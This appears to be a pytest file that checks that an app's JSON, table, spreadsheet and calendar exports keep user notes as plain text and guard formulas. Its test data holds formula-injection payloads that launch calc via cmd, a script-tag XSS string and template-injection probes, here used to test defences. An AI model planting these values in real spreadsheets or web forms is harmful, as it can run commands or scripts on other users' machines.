"""What hostile people note comes out of every file as the text that it is, and runs nowhere."""

import io
import json
import zipfile
from xml.etree import ElementTree

import httpx
import pytest
from icalendar import Calendar

from app.results.files.cells import guarded, starts_formula
from tests.web.results.files import Owner, loaded, owner_of
from tests.web.results.recalculated import recalculated, values_of
from tests.web.visitor import QUESTIONS, SOME_ANSWERS, Visitor

MARKUP = "<script>alert(1)</script> \"quoted\" 'single' & &amp; ]]> {{ 7 * 7 }} {% raw %} <!-- <b>"
# As it is typed, and as it is kept.
NOTES: dict[str, str] = {
    '=HYPERLINK("https://example.com?"&A1,"Open")': '=HYPERLINK("https://example.com?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0": "+1+cmd|' /C calc'!A0",
    "-2+3": "-2+3",
    "@SUM(A1:A9)": "@SUM(A1:A9)",
    " \t=1+1": "=1+1",
    "＝1+1": "＝1+1",
    "\u200b=1+1": "\u200b=1+1",
    MARKUP: MARKUP,
    "a\x00b\x07c\x1b[31md\x7f\x85e": "abc[31mde",
    "right\u200fto\u202eleft\u2069 \ufeff\ufffe\uffff": "right\u200ftoleft \ufeff\ufffe\uffff",
    "emoji 👩🏽‍💻 𝕬 e\u0301 _x0041_ _xFFFE_": "emoji 👩🏽‍💻 𝕬 e\u0301 _x0041_ _xFFFE_",
    "one;two,three\r\n\r\n'four'\t\"five\"" + "x" * 1960: "one;two,three\n\n'four'\t\"five\"" + "x" * 1960,
}
LINK = "https://example.com/?a=1&b=<i>\"';,"
NAME = '=cmd|"/C calc"!A1 & <b>sons</b>'
KEPT = dict(zip(QUESTIONS, NOTES.values(), strict=True))


@pytest.fixture
async def owner(visitor: Visitor) -> Owner:
    """The owner of a take with each of these notes."""
    typed = {question: (note, LINK) for question, note in zip(QUESTIONS, NOTES, strict=True)}
    return await owner_of(visitor, typed, name=NAME)


@pytest.fixture
async def owner_on_sqlite(sqlite_client: httpx.AsyncClient) -> Owner:
    """The same, for what no database has a part in."""
    typed = {question: (note, LINK) for question, note in zip(QUESTIONS, NOTES, strict=True)}
    return await owner_of(Visitor(sqlite_client), typed, name=NAME)


async def test_json_holds_each_note_as_it_is_kept(owner: Owner) -> None:
    take = json.loads(await owner.file("data.json"))["take"]
    assert {question: proof["note"] for question, proof in take["proof"].items()} == KEPT
    assert {proof["link"] for proof in take["proof"].values()} == {LINK}
    assert take["organization"]["name"] == NAME


async def test_loaded_again_each_note_is_the_same(owner: Owner) -> None:
    content = await owner.file("data.json")
    again = Owner(owner.visitor, await loaded(owner.visitor, content))
    assert (await again.visitor.complete(again.key, name=NAME)).status_code == 303
    first, second = json.loads(content), json.loads(await again.file("data.json"))
    assert first["take"].pop("number") != second["take"].pop("number")
    assert first == second


async def test_the_table_guards_what_a_spreadsheet_would_run(owner: Owner) -> None:
    rows = (await owner.table())[1:]
    assert [row[6] for row in rows] == [guarded(note) for note in KEPT.values()]
    assert [row[6][0] for row in rows][:7] == ["'"] * 7
    assert not [cell for row in rows for cell in row if starts_formula(cell)]
    assert {len(row) for row in rows} == {8}


async def test_the_workbook_holds_texts_and_no_formula_that_somebody_wrote(owner_on_sqlite: Owner) -> None:
    book = await owner_on_sqlite.workbook(values=False)
    sheet = book.worksheets[0]
    for row, note in enumerate(KEPT.values(), 5):
        cell = sheet[f"G{row}"]
        # What XML cannot hold stands in the file as its number.
        assert cell.value == note.replace("\ufffe", "_xFFFE_").replace("\uffff", "_xFFFF_")
        assert cell.data_type == "s"
        assert cell.quotePrefix == starts_formula(note)
        assert (sheet[f"H{row}"].value, sheet[f"H{row}"].data_type) == (LINK, "s")
    assert (sheet["A3"].value, sheet["A3"].data_type) == (NAME, "s")
    formulas = [cell for cell, value in values_of(sheet).items() if sheet[cell].data_type == "f"]
    assert formulas == [f"F{row}" for row in range(5, 17)]


async def test_the_workbook_is_sound(owner_on_sqlite: Owner, tmp_path: object) -> None:
    content = await owner_on_sqlite.file("data.xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            ElementTree.fromstring(parts.read(name))
    cells = recalculated(content, f"{tmp_path}/take.xlsx")
    assert cells["F11"] == values_of((await owner_on_sqlite.workbook()).worksheets[1])["F11"]


async def test_the_reminder_holds_nothing_of_it(owner_on_sqlite: Owner) -> None:
    content = await owner_on_sqlite.file("retake.ics")
    unfolded = content.replace(b"\r\n ", b"").decode()
    assert len(Calendar.from_ical(content).walk()) == 3
    assert not [text for text in (*KEPT.values(), NAME, LINK) if text in unfolded]


async def test_every_answer_is_still_told(owner_on_sqlite: Owner) -> None:
    assert [row[0] for row in (await owner_on_sqlite.table())[1:]] == list(SOME_ANSWERS)
